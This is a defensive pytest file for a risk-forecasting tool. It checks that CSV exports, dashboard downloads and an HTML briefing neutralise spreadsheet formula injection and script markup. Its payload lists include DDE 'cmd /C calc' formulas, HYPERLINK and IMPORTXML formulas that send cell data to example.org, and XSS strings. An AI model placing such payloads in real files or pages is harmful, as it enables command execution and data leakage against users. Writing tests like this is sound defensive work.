"""No way out of the product holds a cell that a spreadsheet would run, or markup that is alive."""

import csv
import io
import re
import zipfile
from dataclasses import replace
from datetime import date, timedelta
from html.parser import HTMLParser

import numpy as np
import pandas as pd
import pytest
import streamlit
from hypothesis import given
from hypothesis import strategies as st
from streamlit.testing.v1 import AppTest

from risk.cli import main
from risk.dashboard.panels.share import FILES, TO_SEND
from risk.dashboard.state.view import RECORD_PARTS
from risk.dataset.package import DATA, _to_bytes
from risk.dataset.tables import TABLES
from risk.inputs.evidence import to_bytes
from risk.inputs.evidence_columns import COLUMNS
from risk.inputs.evidence_file import read_evidence
from risk.model.forecast import Forecaster
from risk.output.briefing.page import briefing
from risk.risk_table.scorer import Scorer
from risk.risk_table.settings import Settings
from risk.storage.cells import neutral, plain
from risk.storage.export import to_csv
from risk.terms.catalogue import INDICATORS
from risk.terms.months import to_month
from tests.reading import read_anew
from tests.test_repository import ROOT, tracked_files
from tests.waiting import HANG_S

pytestmark = pytest.mark.slow

# One of each kind of character that shows nothing by itself.
UNSEEN = tuple(
    "\u00ad\u034f\u061c\u115f\u1160\u17b4\u180b\u180e\u2000\u200d\u2028\u2029"
    "\u202a\u202e\u2061\u2064\u2065\u2066\u2069\u206f\u2800\u3000\u3164\ufe0f"
    "\uffa0\ufff0\ufff9\U0001d159\U0001d173\U000e0020\U000e0100"
)
HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    *(f"{unseen}=1+1" for unseen in UNSEEN),
    "\u202a\u2066 \u115f'\u200b＝1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(A1)",
    "'=1+1",
    '"=1+1"',
    "\"'=1+1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://example.org/?"&A1,"Click")',
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "-2+3+cmd|' /C calc'!A0",
    "@a;=1+1;b",
)
# Where the separator is a semicolon, the second part is a cell of its own, quotes or none.
BEHIND = (
    "a;=1+1",
    "a; \u200b@SUM(A1)",
    "a;b;-1+1",
    "a\t=1+1",
    "a\n=1+1",
    'a";"=1+1',
    "a;'=1",
)
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
AS_OF = to_month("2021-06")
# Written apart from the product's own rule: what is left of a cell without unseen leaders, the
# ranges that Unicode lists as Default_Ignorable_Code_Point and White_Space, and controls.
LEADERS = re.compile(
    r"""['"\s\x00-\x20\x7f-\xa0\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f"""
    r"""\u202a-\u202e\u2060-\u206f\u2800\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb\U0001bca0-\U0001bca3"""
    r"""\U0001d159\U0001d173-\U0001d17a\U000e0000-\U000e0fff]*"""
)
STARTS = tuple("=+-@＝＋－＠﹢﹣﹫﹦")


def would_run(cell):
    if any(would_run(part) for part in re.split(r"[;\t\r\n]", cell)[1:]):
        return True
    if cell.startswith("'"):  # a spreadsheet takes the rest for text
        return False
    return cell.startswith(("\t", "\r", "\n")) or LEADERS.sub("", cell, count=1).startswith(STARTS)


def is_number(cell):
    return bool(re.fullmatch(r"-?\d+(\.\d+)?(e[+-]?\d+)?", cell))


def rows_of(content):
    text = content.decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def checked(content):
    """Cells of a CSV file, none of which runs; a number may begin with its minus."""
    cells = [cell for row in rows_of(content) for cell in row]
    assert cells
    assert [c for c in cells if would_run(c) and not is_number(c)] == []
    return cells


def csv_line(cells):
    buffer = io.StringIO()
    csv.writer(buffer).writerow(cells)
    return buffer.getvalue()


def evidence_of(texts):
    """Evidence whose references and notes are the texts, one row each."""
    lines = [csv_line(COLUMNS)]
    for number, text in enumerate(texts):
        day = str(date(2021, 1, 1) + timedelta(days=number))
        row = {
            "date": day,
            "known_since": day,
            "source_iso3": "AFG",
            "receiver_iso3": "",
            "indicator": "territory_controlled",
            "value": "50",
            "unit": INDICATORS["territory_controlled"].unit,
            "low": "",
            "high": "",
            "reliability": "C",
            "reference": f"'{text}",
            "note": text,
        }
        lines.append(csv_line(row.values()))
    return read_evidence(io.BytesIO("".join(lines).encode()), name="hostile.csv")


@pytest.fixture(scope="module")
def evil(scorer):
    """The shipped data, in which every country bears a hostile name."""
    countries = scorer.panel.countries
    names = [*HOSTILE, *MARKUP]
    evil_names = [f"{names[k % len(names)]}{k}" for k in range(len(countries))]
    looked_at = countries.iso3.map({"AFG": f"={MARKUP[0]}", "TJK": f"@{MARKUP[1]}"})
    countries = countries.assign(country=looked_at.fillna(pd.Series(evil_names)))
    panel = replace(scorer.panel, countries=countries)
    return Scorer(Forecaster(panel, scorer.forecaster.models))


@pytest.fixture(scope="module")
def evil_settings():
    return Settings(AS_OF, evidence=evidence_of([*HOSTILE, *MARKUP]))


# The rule


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_neutralised_and_comes_back(text):
    assert would_run(text) or text.startswith("'")
    assert neutral(text).startswith("'") and not would_run(neutral(text))
    assert neutral(text).replace("'", "") == text.replace("'", "")
    assert plain(neutral(text)) == text


@pytest.mark.parametrize("text", BEHIND)
def test_a_formula_behind_another_separator_is_neutralised_and_comes_back(text):
    assert would_run(text) or ";'" in text
    assert not would_run(neutral(text))
    assert len(neutral(text)) == len(text) + 1
    assert plain(neutral(text)) == text


@given(
    st.text(st.characters(codec="utf-8"), max_size=12),
    st.text(st.sampled_from([*UNSEEN, "'", " ", ";", "\n"]), max_size=4),
    st.sampled_from(["", *STARTS]),
)
def test_a_formula_behind_what_cannot_be_seen_is_neutralised(rest, unseen, start):
    text = f"{unseen}{start}{rest}"
    assert not would_run(neutral(text))
    assert plain(neutral(text)) == (plain(text) if neutral(text) == text else text)


@given(st.text(st.characters(codec="utf-8"), max_size=12))
def test_no_text_runs_once_it_is_neutral_and_none_is_lost(text):
    assert not would_run(neutral(text))
    assert plain(neutral(text)) == (plain(text) if neutral(text) == text else text)


@pytest.mark.parametrize(
    "text",
    ["Côte d'Ivoire", "2021-06", "a=b", "12 %", "", "'tis", '"so"', "–", "(=1)", "a; b", ";"],
)
def test_a_harmless_text_is_left_as_it_is(text):
    assert neutral(text) == text


def test_negative_numbers_stay_numbers():
    table = pd.DataFrame(
        {
            "change": [-0.25, np.nan],
            "count": [-3, 4],
            "whole": pd.array([-1, None], "Int64"),
            "mixed": [-1.5, "-1.5"],
        }
    )
    assert rows_of(to_csv(table))[1:] == [["-0.25", "-3", "-1", "-1.5"], ["", "4", "", "'-1.5"]]


def test_a_header_is_neutralised_too():
    assert to_csv(pd.DataFrame({"=1+1": ["a"]})) == b"'=1+1\r\na\r\n"


# The command line


@pytest.mark.parametrize("options", [[], ["--corridors"]])
def test_what_score_writes(evil, evil_settings, tmp_path, monkeypatch, options):
    monkeypatch.setattr("risk.cli.score.load_scorer", lambda *_: evil)
    (tmp_path / "evil.csv").write_bytes(to_bytes(evil_settings.evidence))
    arguments = ["--as-of", "2021-06", "--evidence", str(tmp_path / "evil.csv"), *options]
    assert main(["score", *arguments, "--out", str(tmp_path / "t.csv")]) == 0
    cells = checked((tmp_path / "t.csv").read_bytes())
    neutralised = {re.sub(r"\d*$", "", c) for c in cells if c.startswith("'")}
    assert len(neutralised) > 10
    contributions = [c for c in cells if c.startswith("-") and is_number(c)]
    assert contributions == [] or all(float(c) < 0 for c in contributions)


def test_what_verify_writes(evil, tmp_path, monkeypatch):
    levels = evil.backtest.units
    past = {
        "=1+1": evil.backtest.probabilities(),
        "climatology": {name: dict(level.climatology) for name, level in levels.items()},
    }
    monkeypatch.setattr("risk.cli.verify.load_scorer", lambda *_: evil)
    monkeypatch.setattr("risk.cli.verify.forecasts_of", lambda *_, **__: past)
    monkeypatch.setattr(
        "risk.cli.verify.scored", lambda *_, **__: {"scores": [], "differences": []}
    )
    monkeypatch.setattr("risk.cli.verify.warned", lambda *_, **__: {})
    monkeypatch.setattr("risk.cli.verify.printed", lambda *_: "")
    assert main(["verify", "--forecasts", str(tmp_path / "f.csv")]) == 0
    assert "'=1+1" in checked((tmp_path / "f.csv").read_bytes())


@pytest.mark.parametrize("name", TABLES)
def test_what_build_writes_as_csv(name):
    columns = TABLES[name].columns
    frame = pd.DataFrame(
        {c.name: HOSTILE if c.kind == "text" else range(len(HOSTILE)) for c in columns}
    )
    content = _to_bytes(frame, name)
    if content[:4] != b"PAR1":
        texts = sum(c.kind == "text" for c in columns)
        assert sum(c.startswith("'") for c in checked(content)) == texts * len(HOSTILE)


def test_every_csv_file_of_the_repository():
    files = tracked_files("*.csv")
    folders = {path.relative_to(ROOT).parts[0] for path in files}
    assert folders == {"data", "models", "seeds", "tests"}
    for path in files:
        checked(path.read_bytes())
    assert DATA / "countries.csv" not in files  # they bear their hash


# The dashboard: every download button there is, on every page

PAGES = {
    "map": "map",
    "country": "country",
    "compare": "compare",
    "track": "track_record",
    "method": "method",
}
# Of a page that shows one part at a time, each part.
PARTS = {"track": [{"record_part": part} for part in RECORD_PARTS]}
VIEW = {"as_of": "2021-06", "source": "AFG", "country": "TJK", "watch": "TJK"}


@pytest.fixture(scope="module")
def downloads(evil, evil_settings):
    """The files that the pages' download buttons give: name and content, by the button's key."""
    files = {}

    def button(label, data, file_name, mime=None, *, key, **_):
        files[key] = file_name, data() if callable(data) else data

    def draw(module, page):
        from importlib import import_module

        getattr(import_module(f"risk.dashboard.pages.{module}.page"), f"{page}_page")()

    digest = evil_settings.evidence.short
    here = {digest: [("=evil.csv", evil_settings.evidence)]}
    expander = streamlit.expander
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("risk.dashboard.state.served.load_release", lambda *_: evil)
        patch.setattr("risk.dashboard.state.evidence_store.Files._every", here)
        patch.setattr(streamlit, "download_button", button)
        patch.setattr(streamlit, "expander", lambda label, _=None, **o: expander(label, True, **o))
        read_anew()
        for page, module in PAGES.items():
            for part in PARTS.get(page, [{}]):
                app = AppTest.from_function(draw, args=(module, page), default_timeout=HANG_S)
                for name, value in {**VIEW, **part, "evidence": digest}.items():
                    app.query_params[name] = value
                assert not app.run().exception
    read_anew()
    return files


def test_every_download_button_of_the_code_was_pressed(downloads):
    code = "".join(
        path.read_text(encoding="utf-8") for path in tracked_files("risk/dashboard/*.py")
    )
    assert code.count("download_button(") == 1  # in `download`, by which all files are offered
    buttons = re.findall(r'(?<!def )\bdownload\([^@]*?key=("\w+"|key),', code)
    assert buttons.count("key") == 1  # that of the files of a view, which have a table of their own
    named = {key.strip('"') for key in buttons if key != "key"}
    assert named | set(FILES) | {f"share_{name}" for name in TO_SEND} == set(downloads)
    assert len(re.findall(r"(?<!def )\bdownload\(", code)) == len(buttons) >= 7


def test_every_csv_file_of_the_pages(downloads):
    tables = {key: content for key, (name, content) in downloads.items() if name.endswith(".csv")}
    assert set(downloads) - set(tables) == {
        "briefing",
        "bundle",
        "evidence_template_excel",
        "excel",
        "share_briefing",
        "trigger_card",
        "watch_download",
    }
    for content in tables.values():
        checked(content)
    changes = checked(tables["csv_changes"])
    assert any(float(c) < 0 for c in changes if is_number(c))  # falls are negative numbers
    for key in ("csv_countries", "csv_corridors", "csv_changes", "csv_comparison"):
        assert any(cell.startswith("'") for cell in checked(tables[key])), key


def test_every_csv_file_of_the_zip(downloads):
    name, content = downloads["bundle"]
    assert name.endswith(".zip")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        found = {name: archive.read(name) for name in archive.namelist()}
    assert {"countries.csv", "corridors.csv", "evidence.csv"} <= set(found)
    for name in found:
        if name.endswith(".csv"):
            cells = checked(found[name])
            assert any(cell.startswith("'") for cell in cells)
    assert {neutral(text) for text in HOSTILE if text == text.strip()} <= set(
        checked(found["evidence.csv"])
    )


# The briefing


class Elements(HTMLParser):
    """Tags, attributes and text of a document, as a browser sees them."""

    def __init__(self, text):
        super().__init__()
        self.tags = set()
        self.attributes = []
        self.texts = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs

    def handle_data(self, data):
        self.texts.append(data)


@pytest.mark.parametrize("country", [None, "TJK"])
def test_the_briefing_has_no_script_and_shows_hostile_texts_as_text(evil, evil_settings, country):
    text = briefing(evil, replace(evil_settings, source="AFG"), country).decode()
    found = Elements(text)
    active = "script img iframe object embed link base form "
    active += "input foreignobject animate set use a"
    assert not found.tags & set(active.split())
    names = {name.lower() for name, _ in found.attributes}
    assert not {name for name in names if name.startswith("on")}
    assert not names & {"href", "xlink:href", "src", "srcset", "action", "style", "formaction"}
    read = " ".join(found.texts)
    shown = [markup for markup in MARKUP if markup in read]
    assert "<script>alert(1)</script>" in shown and len(shown) >= 2


def test_the_way_that_the_parser_sees_markup_finds_a_script():
    found = Elements('<p onclick="x">a</p><script>b</script>')
    assert found.tags == {"p", "script"} and found.attributes == [("onclick", "x")]
